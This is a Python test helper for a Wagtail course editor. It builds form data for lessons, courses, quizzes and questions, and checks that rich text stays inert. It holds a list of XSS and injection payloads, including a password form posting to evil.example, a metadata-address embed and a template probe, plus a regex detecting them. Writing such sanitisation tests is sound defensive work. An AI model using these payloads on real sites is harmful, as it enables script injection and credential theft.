"""What the editor sends for pages, tests and questions, and text that must stay text."""

import json
import re

from django.urls import reverse

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<iframe src=//evil.example></iframe>",
    '<p style="background:url(//evil.example)" onclick="alert(1)" class="x" id="y">x</p>',
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    '<img src="//evil.example/pixel.png">',
    "<form action=//evil.example><input name=password></form>",
    "<math><mtext></p><script>alert(1)</script>",
    "<video src=x onerror=alert(1)></video>",
    '<embed embedtype="media" url="http://169.254.169.254/">',
    '<embed embedtype="image" id="1" format="left" alt="x">',
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<a href=' javascript:alert(1)'>x</a>",
    '"><img src=x onerror=alert(1)>{{7*7}}=1+1',
]
FORBIDDEN = re.compile(
    r"<script(?! src|>\s*$)|onerror|onload|onclick|javascript:|<iframe|<object|evil\.example|<style>|169\.254",
    re.I,
)


def stream_form(*blocks):
    """What the editor sends for a stream of (type, {field: value})."""
    data = {"body-count": str(len(blocks))}
    for number, (kind, fields) in enumerate(blocks):
        prefix = f"body-{number}"
        data |= {
            f"{prefix}-type": kind,
            f"{prefix}-order": str(number),
            f"{prefix}-deleted": "",
            f"{prefix}-id": "",
        }
        if isinstance(fields, dict):
            data |= {f"{prefix}-value-{name}": value for name, value in fields.items()}
        else:
            data[f"{prefix}-value"] = fields
    return data


def formsets(*names):
    return {
        f"{name}-{part}": "0" for name in names for part in ("TOTAL_FORMS", "INITIAL_FORMS")
    } | {f"{name}-{part}": "0" for name in names for part in ("MIN_NUM_FORMS", "MAX_NUM_FORMS")}


def rich(text):
    """Rich text as the editor sends it: a content state whose text holds the payload."""
    return json.dumps(
        {
            "blocks": [
                {
                    "key": "a",
                    "text": text,
                    "type": "unstyled",
                    "depth": 0,
                    "inlineStyleRanges": [],
                    "entityRanges": [],
                    "data": {},
                }
            ],
            "entityMap": {},
        }
    )


def lesson_form(**values):
    return {
        "title": "Bài",
        "minutes": "10",
        "required": "on",
        **formsets("comments"),
        **stream_form(),
        **values,
    }


def course_form(**values):
    return {
        "title": "Khóa",
        "summary": "",
        "audience": "",
        "subject": "",
        "programme_type": "",
        "image": "",
        "content_reviewed_on": "",
        **formsets("comments", "outcomes"),
        **values,
    }


def whole_course_form(course, **values):
    """What stands in the form of a course that lacks nothing, with `values` changed."""
    kept = {}
    for number, outcome in enumerate(course.outcomes.all()):
        kept |= {
            f"outcomes-{number}-id": str(outcome.pk),
            f"outcomes-{number}-text": outcome.text,
            f"outcomes-{number}-competency": str(outcome.competency_id),
            f"outcomes-{number}-level": str(outcome.level),
            f"outcomes-{number}-least_assurance": outcome.least_assurance,
            f"outcomes-{number}-ORDER": str(number + 1),
        }
    count = str(course.outcomes.count())
    whole = {
        "title": course.title,
        "summary": course.summary or "Một câu.",
        "audience": course.audience or "Công chức",
        "subject": str(course.subject_id),
        "programme_type": str(course.programme_type_id),
        "outcomes-TOTAL_FORMS": count,
        "outcomes-INITIAL_FORMS": count,
    }
    return course_form(**{**whole, **kept, **values})


def new(client, kind, parent, data):
    return client.post(reverse("wagtailadmin_pages:add", args=("courses", kind, parent.pk)), data)


def quiz_form(**slot):
    data = {
        "title": "Kiểm tra",
        "introduction": "",
        "preset": "test",
        "pass_fraction": "50",
        "attempts": "3",
        "minutes": "15",
        "time_limit": "",
        "shuffle": "on",
        "required": "on",
        **formsets("comments", "slots"),
        "slots-TOTAL_FORMS": "1",
        "slots-MAX_NUM_FORMS": "1000",
    }
    values = {
        "question": "",
        "bank": "",
        "topic": "",
        "difficulty": "",
        "count": "1",
        "points": "1",
        "ORDER": "1",
        "DELETE": "",
        "id": "",
        **slot,
    }
    return data | {f"slots-0-{name}": value for name, value in values.items()}


def question_form(bank, **values):
    return {
        "bank": str(bank.pk),
        "difficulty": "easy",
        "topics": "",
        "read_again": "",
        "competency": "",
        "code": "",
        **stream_form(
            (
                "single",
                {
                    "prompt": rich("Ai?"),
                    "options": "*A\nB",
                    "explanation": rich("Vì A."),
                    "tip": "",
                    "shuffle": "on",
                },
            )
        ),
        **values,
    }
